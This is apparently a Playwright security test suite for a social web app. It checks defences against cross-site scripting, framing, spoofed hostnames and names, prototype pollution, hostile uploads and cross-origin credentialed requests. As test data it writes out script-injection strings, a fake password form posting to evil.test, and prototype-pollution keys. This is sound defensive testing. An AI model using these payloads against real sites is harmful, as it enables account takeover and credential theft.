import { type BrowserContext, expect, type Page, type Route, test } from "@playwright/test";
import { nameFor, Person, serverA, serverB } from "./people";
import { SCENES } from "./scenery";
import { KEEPER } from "./servers";
import { poisoned, VECTORS } from "./vectors";

/** What a page did that it should not have: scripts that ran, and what the policy had to stop. */
interface Watched {
  hits: string[];
  /** Directives of the policy that were broken. A refused picture is the policy at work, not a script. */
  stopped: string[];
}

declare global {
  function hit(): void;
  function told(what: "hits" | "stopped", detail: string): void;
}

async function watched(context: BrowserContext): Promise<Page & { seen: Watched }> {
  const page = await context.newPage();
  const seen: Watched = { hits: [], stopped: [] };
  page.on("dialog", async (dialog) => {
    seen.hits.push(dialog.message());
    await dialog.dismiss();
  });
  page.on("pageerror", (error) => seen.stopped.push(`error: ${error.message}`));
  // What the server says of itself over the socket would take the place of what a test has it say.
  await page.routeWebSocket("**/api/v1/streaming**", () => {});
  await page.exposeFunction("told", (what: keyof Watched, detail: string) => seen[what].push(detail));
  await page.addInitScript(() => {
    globalThis.hit = () => globalThis.told("hits", location.href);
    // The inert document in which texts are read has the page's policy too, and says what it would have refused
    // there: its reports come without an element of the page.
    document.addEventListener("securitypolicyviolation", ({ effectiveDirective, sample, target }) => {
      const here = target instanceof Element || !/-(attr|elem)$/.test(effectiveDirective);
      const picture = effectiveDirective === "img-src" || effectiveDirective === "media-src";
      if (here && !picture) globalThis.told("stopped", `${effectiveDirective} ${sample}`.trim());
    });
  });
  return Object.assign(page, { seen });
}

const idle = async (page: Page) => {
  await expect(page.getByRole("main")).toBeVisible();
  await expect(page.locator("[aria-busy=true]")).toHaveCount(0);
};

/** Addresses in the document that lead anywhere but to a page, and attributes that would be scripts. */
const crooked = (page: Page) =>
  page.evaluate(() =>
    [...document.querySelectorAll("*")].flatMap((element) =>
      element
        .getAttributeNames()
        .filter((name) => {
          if (name.startsWith("on") || name === "srcdoc") return true;
          if (!/^(href|xlink:href|action|formaction|data)$/.test(name)) return false;
          const { protocol } = new URL(element.getAttribute(name) ?? "", location.href);
          return !/^(https?|mailto):$/.test(protocol);
        })
        .map((name) => `${element.tagName} ${name}="${element.getAttribute(name)}"`),
    ),
  );

/** A page of somebody who means no good, at an address that does not exist. */
async function evilPage(context: BrowserContext, html = "<title>evil</title>") {
  const page = await context.newPage();
  await page.route("https://evil.test/**", (route) =>
    route.fulfill({ contentType: "text/html", body: html }),
  );
  await page.goto("https://evil.test/");
  return page;
}

test("xss_05_a_link_that_names_another_host_is_told_on", async ({ browser }, info) => {
  const ann = await Person.join(browser, serverA(), nameFor("ann_xss05", info), info);
  const id = await ann.post([SCENES.night], "The moon", { status: "Look" });
  const page = await watched(ann.page.context());
  await alone(page);
  await page.route(`**/api/v1/statuses/${id}`, (route) =>
    answered(route, (post) => ({
      ...post,
      content:
        '<p><a href="https://evil.test/login"><span class="invisible">https://evil.test/?</span>bank.test</a> and ' +
        '<a href="https://bank.test/login">bank.test/login</a></p>',
    })),
  );
  await page.goto(`/@${ann.name}/${id}`);
  const caption = page.getByRole("main").getByText("bank.test (evil.test) and bank.test/login");
  await expect(caption).toBeVisible();
  for (const link of await page.locator("a[href*='bank.test'], a[href*='evil.test']").all()) {
    expect(await link.getAttribute("rel")).toBe("nofollow noopener noreferrer");
  }
});

/** Lists that hold the same post would put the server's own words back into it. */
const alone = (page: Page) =>
  page.route("**/api/v1/accounts/*/statuses**", (route) => route.fulfill({ json: [] }));

/** The server's own answer, changed. */
async function answered(route: Route, change: (json: Record<string, unknown>) => unknown) {
  const answer = await route.fetch();
  await route.fulfill({ response: answer, json: change(await answer.json()) });
}

test("xss_13_the_policy_is_there_and_holds", async ({ browser, page }, info) => {
  const ann = await Person.join(browser, serverA(), nameFor("ann_xss13", info), info);
  const paths = ["/", "/login", "/signup", "/design", "/search", `/@${ann.name}`, "/no/such/page"];
  for (const path of paths) {
    const answer = await page.request.get(serverA() + path, { headers: { Accept: "text/html" } });
    const policy = answer.headers()["content-security-policy"] ?? "";
    expect(policy, path).toBe(
      "default-src 'none'; script-src 'self'; style-src 'self'; img-src 'self' blob: data:; " +
        "media-src 'self' blob:; font-src 'self'; connect-src 'self'; manifest-src 'self'; worker-src 'self'; " +
        "form-action 'self'; base-uri 'none'; frame-ancestors 'none'; require-trusted-types-for 'script'; " +
        "trusted-types heliograph",
    );
    expect(answer.headers()["referrer-policy"], path).toBe("same-origin");
  }
  const tried = await watched(await browser.newContext());
  await tried.goto(`${serverA()}/login`);
  await expect(tried.getByRole("heading", { level: 1 })).toBeVisible();
  const outcome = await tried.evaluate(async (elsewhere) => {
    const refused = (attempt: () => unknown) => {
      try {
        attempt();
        return false;
      } catch {
        return true;
      }
    };
    const add = (tag: string, attributes: Record<string, string>, parent: Element = document.body) => {
      const element = parent.appendChild(document.createElement(tag));
      for (const [name, value] of Object.entries(attributes)) element.setAttribute(name, value);
      return element;
    };
    const { trustedTypes } = globalThis as unknown as {
      trustedTypes: { createPolicy(name: string, rules: object): unknown };
    };
    const sinks = [
      () => Object.assign(document.createElement("script"), { text: "document.title = 'evil'" }),
      () => Object.assign(document.createElement("script"), { src: `${elsewhere}/x.js` }),
      () => Object.assign(document.createElement("p"), { innerHTML: "<b>evil</b>" }),
      () => add("p", { onclick: "document.title = 'evil'" }),
      () => trustedTypes.createPolicy("evil", {}),
    ].map(refused);
    // What a test says is exempt from the policy; what a later task says is not.
    const evaluated = await new Promise<boolean>((tell) => {
      // biome-ignore lint/security/noGlobalEval: it is what must not work.
      setTimeout(() => tell(refused(() => globalThis.eval("document.title = 'evil'"))));
    });
    add("iframe", { src: `${elsewhere}/login` });
    add("style", {}).textContent = "p { color: red }";
    add("p", { style: "color: red" });
    add("base", { href: `${elsewhere}/` }, document.head);
    (add("form", { action: `${elsewhere}/login`, method: "post" }) as HTMLFormElement).submit();
    await fetch(`${elsewhere}/health`).catch(() => {});
    return { sinks, evaluated };
  }, serverB());
  expect(outcome).toEqual({ sinks: [true, true, true, true, true], evaluated: true });
  const stopped = ["base-uri", "connect-src", "form-action", "frame-src", "require-trusted-types-for"];
  stopped.push("style-src-attr", "style-src-elem", "trusted-types");
  for (const directive of stopped) {
    const kinds = () => tried.seen.stopped.map((one) => one.split(" ")[0]);
    await expect.poll(kinds, { message: directive }).toContain(directive);
  }
  expect(await tried.evaluate(() => [location.pathname, document.title])).toEqual([
    "/login",
    "Log in · Heliograph",
  ]);
});

test("xss_13_nobody_frames_a_page", async ({ browser }) => {
  const context = await browser.newContext();
  const frames = ["/", "/login", "/oauth/authorize", "/design"].map(
    (path) => `<iframe src="${serverA()}${path}"></iframe>`,
  );
  const page = await evilPage(context, frames.join(""));
  await expect.poll(() => page.frames().length).toBe(frames.length + 1);
  for (const frame of page.frames().slice(1)) {
    await expect.poll(() => frame.url()).toContain("chrome-error://");
  }
  await context.close();
});

test("xss_18_names_and_hosts_are_what_they_seem", async ({ browser, request }, info) => {
  const ann = await Person.join(browser, serverA(), nameFor("ann_xss18", info), info);
  await ann.ask("PATCH", "/api/v1/accounts/update_credentials", {
    data: { display_name: "Ann \u202enna\u2066 Öz" },
  });
  const id = await ann.post([SCENES.bay], "A bay", { status: "Look" });
  const page = await watched(ann.page.context());
  await alone(page);
  await page.route(`**/api/v1/statuses/${id}`, (route) =>
    answered(route, (post) => ({ ...post, content: '<p><a href="https://аpple.com/">аpple.com</a></p>' })),
  );
  await page.goto(`/@${ann.name}/${id}`);
  await expect(page.getByText("аpple.com (xn--pple-43d.com)")).toBeVisible();
  await page.unrouteAll();
  const turning = () =>
    page.evaluate(() =>
      [...document.querySelectorAll("*")].flatMap((element) =>
        [
          element.textContent ?? "",
          ...element.getAttributeNames().map((name) => element.getAttribute(name) ?? ""),
        ]
          .filter(
            (text) =>
              /[\u202a-\u202e\u2066-\u2069]/.test(text) &&
              element.id !== "boot" &&
              !element.querySelector("#boot"),
          )
          .slice(0, 1),
      ),
    );
  await page.goto(`/@${ann.name}`);
  await expect(page.getByRole("heading", { level: 1 }).locator("bdi")).toHaveText("Ann nna Öz");
  for (const path of [`/@${ann.name}`, "/", `/@${ann.name}/${id}`, "/settings"]) {
    await page.goto(path);
    await idle(page);
    await expect(page.getByText("Ann nna Öz").first()).toBeAttached();
    expect(await turning(), path).toEqual([]);
  }
  const taken = await request.post(`${serverA()}/api/heliograph/v1/registrations`, {
    data: { username: "\u0430lice", email: "alice@example.org", password: "a mirror on a hill" },
  });
  expect(taken.status()).toBe(422);
});

test("xss_19_no_form_comes_with_a_text", async ({ browser }, info) => {
  const ann = await Person.join(browser, serverA(), nameFor("ann_xss19", info), info);
  const id = await ann.post([SCENES.lake], "A lake", { status: "Look" });
  const page = await watched(ann.page.context());
  await alone(page);
  await page.route(`**/api/v1/statuses/${id}`, (route) =>
    answered(route, (post) => ({
      ...post,
      content:
        '<div style="position:fixed;inset:0"><form action="https://evil.test" id="evil"><label for="pw">Password</label>' +
        '<input id="pw" name="password" type="password" autofocus form="evil"><button formaction="https://evil.test">' +
        "<select><option>x</select><textarea>y</textarea><fieldset><output>Session expired</output></fieldset>" +
        "<dialog open>Log in again</dialog></button></form></div>",
    })),
  );
  await page.goto(`/@${ann.name}/${id}`);
  await expect(page.getByText("Session expired").first()).toBeVisible();
  const caption = page.locator(".prose", { hasText: "Session expired" });
  await expect(
    caption.first().locator("form, input, button, label, select, textarea, dialog, output"),
  ).toHaveCount(0);
  await expect(page.locator("input[type=password]")).toHaveCount(0);
  expect(await crooked(page)).toEqual([]);
  expect(page.seen).toEqual({ hits: [], stopped: [] });
});

test("xss_21_no_text_of_an_answer_becomes_a_script", async ({ browser }, info) => {
  test.setTimeout(300_000);
  expect(VECTORS.length).toBeGreaterThanOrEqual(200);
  const join = (name: string) => Person.join(browser, serverA(), nameFor(name, info), info);
  const [ann, bob] = [await join("ann_xss21"), await join("bob_xss21")];
  const id = await ann.post([SCENES.bay, SCENES.wood], "<img src=x onerror=hit()>", {
    status: "</script><script>hit()</script> :sun: #evil javascript:hit()",
  });
  const comment = await bob.ask("POST", "/api/v1/statuses", {
    data: { in_reply_to_id: id, status: "<svg onload=hit()>" },
  });
  await bob.ask("POST", `/api/v1/accounts/${ann.id}/follow`);
  await ann.ask("POST", `/api/v1/accounts/${bob.id}/follow`);
  for (const verb of ["favourite", "bookmark"]) await ann.ask("POST", `/api/v1/statuses/${id}/${verb}`);
  await ann.ask("PATCH", "/api/v1/accounts/update_credentials", {
    data: {
      display_name: "</script><script>hit()</script>",
      note: "<img src=x onerror=hit()> javascript:hit() [a](javascript:hit())",
    },
  });
  const page = await watched(ann.page.context());

  await test.step("what people wrote through the server stays words", async () => {
    for (const path of ["/", `/@${ann.name}`, `/@${ann.name}/${id}`, "/settings", "/settings/profile"]) {
      await page.goto(path);
      await idle(page);
      expect(await crooked(page), path).toEqual([]);
    }
    expect(page.seen).toEqual({ hits: [], stopped: [] });
  });

  await test.step("a comment of every kind, under every name", async () => {
    await page.route(`**/api/v1/statuses/${id}/context`, (route) =>
      route.fulfill({
        json: {
          ancestors: [],
          descendants: VECTORS.map((content, index) => ({
            ...comment,
            id: `9${index}`,
            content,
            account: {
              ...comment.account,
              id: `8${index}`,
              username: content,
              display_name: content,
              note: content,
            },
          })),
        },
      }),
    );
    await page.goto(`/@${ann.name}/${id}`);
    await expect(page.getByRole("article", { name: /Comment by/ })).toHaveCount(VECTORS.length);
    expect(await crooked(page)).toEqual([]);
    const text = page.getByRole("article", { name: /Comment by/ });
    expect(
      await text.locator("script, iframe, svg a, math, object, embed, form, style, base, meta").count(),
    ).toBe(0);
    expect(page.seen).toEqual({ hits: [], stopped: [] });
  });

  await test.step("every field of every answer", async () => {
    const keeper = await Person.enter(browser, serverA(), KEEPER, info);
    const staff = await watched(keeper.page.context());
    for (const one of [page, staff]) {
      await one.unrouteAll();
      await one.route("**/api/**", async (route) => {
        const answer = await route.fetch();
        const isJson = answer.headers()["content-type"]?.includes("json");
        if (!isJson) return route.fulfill({ response: answer });
        return route.fulfill({ response: answer, json: poisoned(await answer.json()) });
      });
    }
    const own = ["/", "/public", `/@${ann.name}`, `/@${bob.name}/followers`, `/@${ann.name}/${id}`];
    own.push(
      `/@${ann.name}/${id}/likes`,
      "/notifications",
      "/saved",
      "/liked",
      "/follow-requests",
      "/tags/evil",
    );
    own.push(
      "/settings/blocks",
      "/settings/security",
      "/settings/moving",
      "/settings/profile",
      "/new",
      "/search",
    );
    for (const path of own) {
      await page.goto(path);
      await idle(page);
      expect(await crooked(page), path).toEqual([]);
    }
    await page.getByRole("searchbox").fill("evil");
    await idle(page);
    for (const path of ["/admin/people", "/admin/servers", "/admin/rules", "/admin/switches", "/admin/log"]) {
      await staff.goto(path);
      await idle(staff);
      expect(await crooked(staff), path).toEqual([]);
    }
    for (const one of [page, staff]) expect(one.seen).toEqual({ hits: [], stopped: [] });
  });
});

test("xss_22_keys_of_every_object_change_nothing", async ({ browser }, info) => {
  const ann = await Person.join(browser, serverA(), nameFor("ann_xss22", info), info);
  const id = await ann.post([SCENES.ridge], "Ridges", { status: "Seven of them :constructor: :__proto__:" });
  const page = await watched(ann.page.context());
  const keys = `"__proto__":{"polluted":true},"constructor":{"prototype":{"polluted":true}},"hasOwnProperty":1,"toString":null,"then":"x"`;
  await page.route("**/api/**", async (route) => {
    const answer = await route.fetch();
    if (!answer.headers()["content-type"]?.includes("json")) return route.fulfill({ response: answer });
    const body = (await answer.text()).replace(/\{(?=")/g, `{${keys},`);
    return route.fulfill({ response: answer, body });
  });
  for (const path of ["/", `/@${ann.name}`, `/@${ann.name}/${id}`, "/notifications", "/settings/profile"]) {
    await page.goto(path);
    await idle(page);
    await expect(page.getByRole("heading", { level: 1 }).first()).toBeAttached();
    expect(await page.evaluate(() => "polluted" in {} || "polluted" in Object), path).toBe(false);
  }
  await page.goto("/");
  await expect(page.getByText("Seven of them :constructor: :__proto__:")).toBeVisible();
  for (const path of ["/@constructor", "/@__proto__", "/tags/__proto__", "/tags/hasOwnProperty"]) {
    await page.goto(path);
    await idle(page);
  }
  expect(page.seen).toEqual({ hits: [], stopped: [] });
});

test("xss_23_no_upload_becomes_a_script_or_a_worker", async ({ browser }, info) => {
  const ann = await Person.join(browser, serverA(), nameFor("ann_xss23", info), info);
  const id = await ann.post([SCENES.wood], "Mist", { status: "Trees" });
  const { media_attachments } = await ann.ask("GET", `/api/v1/statuses/${id}`);
  const page = await watched(ann.page.context());
  await page.goto("/");
  await idle(page);
  const file = (name: string, mimeType: string, text: string) => ({
    name,
    mimeType,
    buffer: Buffer.from(text),
  });
  const { csrf } = await (await page.request.get("/api/heliograph/v1/session")).json();
  for (const upload of [
    file("x.js", "text/javascript", "hit()"),
    file("x.jpg", "image/jpeg", "hit()"),
    file("x.svg", "image/svg+xml", "<svg xmlns='http://www.w3.org/2000/svg' onload='hit()'/>"),
    file("x.jpg", "image/jpeg", "<!doctype html><script>hit()</script>"),
  ]) {
    const answer = await page.request.post("/api/v2/media", {
      multipart: { file: upload },
      headers: { "X-CSRF-Token": csrf },
    });
    expect(answer.status(), upload.mimeType).toBe(422);
  }
  const { url } = media_attachments[0];
  const own = /\/assets\/theme-\d+\.js/.exec(await (await page.request.get("/")).text())?.[0] ?? "";
  for (const address of [url, "/", own]) {
    const headers = (await page.request.get(address)).headers();
    expect(headers["service-worker-allowed"]).toBeUndefined();
    expect(headers["x-content-type-options"]).toBe("nosniff");
  }
  expect((await page.request.get(url)).headers()["content-type"]).toMatch(/^image\/(jpeg|webp|png)$/);
  const registered = await page.evaluate(
    async ([media, own]) => {
      const tried: string[] = [];
      for (const script of [media, "/media/x.js", own, "data:text/javascript,"]) {
        const outcome = Promise.resolve().then(() => navigator.serviceWorker.register(script));
        await outcome.then(
          () => tried.push(script),
          () => {},
        );
      }
      return tried;
    },
    [url, own] as const,
  );
  expect(registered).toEqual([]);
});

test("auth_26_other_sites_read_nothing_in_somebodys_name", async ({ browser }, info) => {
  const ann = await Person.join(browser, serverA(), nameFor("ann_auth26", info), info);
  const headers = { Origin: "https://evil.test" };
  for (const path of ["/", "/login", `/@${ann.name}`, "/settings/security", "/oauth/authorize"]) {
    const answer = await ann.page.request.get(path, { headers: { ...headers, Accept: "text/html" } });
    expect(answer.headers()["access-control-allow-origin"], path).toBeUndefined();
  }
  for (const path of [
    "/api/v1/instance",
    "/api/v1/timelines/home",
    "/oauth/token",
    "/api/heliograph/v1/session",
  ]) {
    for (const method of ["GET", "POST", "OPTIONS"]) {
      const asked = { ...headers, "Access-Control-Request-Method": "POST" };
      const answer = await ann.page.request.fetch(path, { method, headers: asked });
      expect(answer.headers()["access-control-allow-credentials"], `${method} ${path}`).toBeUndefined();
      expect([undefined, "*"]).toContain(answer.headers()["access-control-allow-origin"]);
    }
  }
  const open = await ann.page.request.get("/api/v1/instance", { headers });
  expect(open.headers()["access-control-allow-origin"]).toBe("*");
  const evil = await evilPage(ann.page.context());
  const read = (path: string, credentials: RequestCredentials) =>
    evil.evaluate(
      ([url, credentials]) =>
        fetch(url, { credentials: credentials as RequestCredentials }).then(
          (answer) => answer.status,
          () => "refused",
        ),
      [serverA() + path, credentials] as const,
    );
  expect(await read("/api/v1/timelines/home", "include")).toBe("refused");
  expect(await read("/api/heliograph/v1/session", "include")).toBe("refused");
  expect(await read("/", "omit")).toBe("refused");
  const changed = await evil.evaluate(
    (url) =>
      fetch(url, { method: "DELETE", credentials: "include", headers: { "X-CSRF-Token": "x" } }).then(
        () => "done",
        () => "refused",
      ),
    `${serverA()}/api/heliograph/v1/session`,
  );
  expect(changed).toBe("refused");
  await ann.page.goto("/settings");
  await expect(ann.page).toHaveURL(/\/settings$/);
});
